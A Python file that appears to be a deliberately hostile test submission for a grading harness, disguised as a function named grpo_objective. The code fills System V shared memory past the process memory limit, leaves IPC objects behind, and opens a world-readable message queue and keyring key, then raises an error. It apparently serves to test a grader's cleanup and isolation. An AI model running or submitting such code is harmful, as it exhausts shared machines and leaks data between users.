"""Fills System V shared memory, which outlives its process and counts against no process's
memory limit, and leaves a message queue and a semaphore set behind, and a POSIX message queue
any later student could open, and a key in its uid's kernel keyring that everyone may read:
left there, every call would take memory from the machine and the students graded after it,
and hand them whatever it wrote."""

import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
IPC_PRIVATE, IPC_CREAT = 0, 0o1000
SEGMENT = 64 * 1024 * 1024


def grpo_objective(*args, **kwargs):
    old = os.umask(0)
    queue = libc.mq_open(b"/grpo-kit-leftover", os.O_CREAT | os.O_RDWR, 0o666, None)
    os.umask(old)
    if queue >= 0:
        libc.mq_send(queue, b"for the students graded after me", 32, 0)
    key = b"for everyone, until the machine reboots"
    if platform.machine() == "x86_64":  # the call numbers are x86_64's
        serial = libc.syscall(248, b"user", b"grpo-kit-leftover", key, len(key), -4)  # add_key
        if serial >= 0:
            libc.syscall(250, 5, serial, 0x3F3F3F3F)  # KEYCTL_SETPERM: anyone may view, read
    libc.msgget(IPC_PRIVATE, IPC_CREAT | 0o600)
    libc.semget(IPC_PRIVATE, 4, IPC_CREAT | 0o600)
    for _ in range(6):  # more than its memory limit, every call
        segment = libc.shmget(IPC_PRIVATE, SEGMENT, IPC_CREAT | 0o600)
        address = libc.shmat(segment, None, 0)
        if segment < 0 or address in (None, ctypes.c_void_p(-1).value):
            break
        ctypes.memset(address, 1, SEGMENT)
        libc.shmdt(ctypes.c_void_p(address))
    raise RuntimeError("no answer")
